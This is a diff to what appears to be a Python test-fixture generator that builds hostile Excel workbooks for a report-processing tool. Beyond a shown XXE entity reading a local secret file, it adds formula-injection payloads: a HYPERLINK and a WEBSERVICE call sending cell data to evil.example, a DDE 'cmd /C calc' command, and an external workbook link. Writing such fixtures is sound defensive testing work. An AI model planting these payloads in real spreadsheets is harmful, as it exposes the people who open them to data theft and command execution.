@@ -124,3 +124,55 @@ def declared_entity(src: Path, dst: Path, part: str, secret: Path) -> Path:
         doctype = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret}">]>'
         return xml.replace("?>", "?>" + doctype, 1) if xml.startswith("<?xml") else doctype + xml
     return rewrite(src, dst, {part: inject})
+
+
+EXTERNAL_FORMULAS = {  # cell of Biểu mẫu 1 → (formula as the sheet's XML writes it, its cached value)
+    "G7": ('HYPERLINK("http://evil.example/?q="&amp;B7,5)', "5"),
+    "H7": ("cmd|'/C calc'!A0", "3"),
+    "I7": ("[1]Sheet1!A1", "3"),
+    "J7": ('VALUE(_xlfn.WEBSERVICE("http://evil.example/"))', "4"),
+}
+INTERNAL_FORMULA = ("C7", "D7+E7+F7", "5")  # stays a formula: it reaches nothing outside
+EXTERNAL_LINK_TARGET = "file:///C:/bao-cao/nguon-ngoai.xlsx"
+
+
+def external_formulas(src: Path, dst: Path) -> Path:
+    """Phước An's report whose Biểu mẫu 1 row 7 holds formulas that reach outside the workbook
+    (with their cached values, as Excel saves them), one that does not, and the external link
+    that "[1]" stands for, with a defined name pointing there."""
+    def sheet(xml: str) -> str:
+        for cell, (formula, value) in {**EXTERNAL_FORMULAS, INTERNAL_FORMULA[0]: INTERNAL_FORMULA[1:]}.items():
+            xml, n = re.subn(rf'<c r="{cell}" s="(\d+)"><v>[^<]*</v></c>',
+                             rf'<c r="{cell}" s="\1"><f>{formula}</f><v>{value}</v></c>', xml)
+            assert n == 1, cell
+        return xml
+
+    def workbook(xml: str) -> str:
+        return xml.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId99"/>'
+                           '</externalReferences><definedNames><definedName name="Ngoai">[1]Sheet1!$A$1'
+                           "</definedName></definedNames>")
+
+    def rels(xml: str) -> str:
+        return xml.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
+                           'officeDocument/2006/relationships/externalLink" '
+                           'Target="externalLinks/externalLink1.xml"/></Relationships>')
+
+    def types(xml: str) -> str:
+        return xml.replace("</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
+                           '"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
+
+    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
+            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames>'
+            '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1">'
+            '<v>3</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>')
+    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+                 'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+                 f'Target="{EXTERNAL_LINK_TARGET}" TargetMode="External"/></Relationships>')
+    rewrite(src, dst, {SHEET1: sheet, "xl/workbook.xml": workbook, "xl/_rels/workbook.xml.rels": rels,
+                       "[Content_Types].xml": types})
+    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("xl/externalLinks/externalLink1.xml", link)
+        zf.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels)
+    return dst
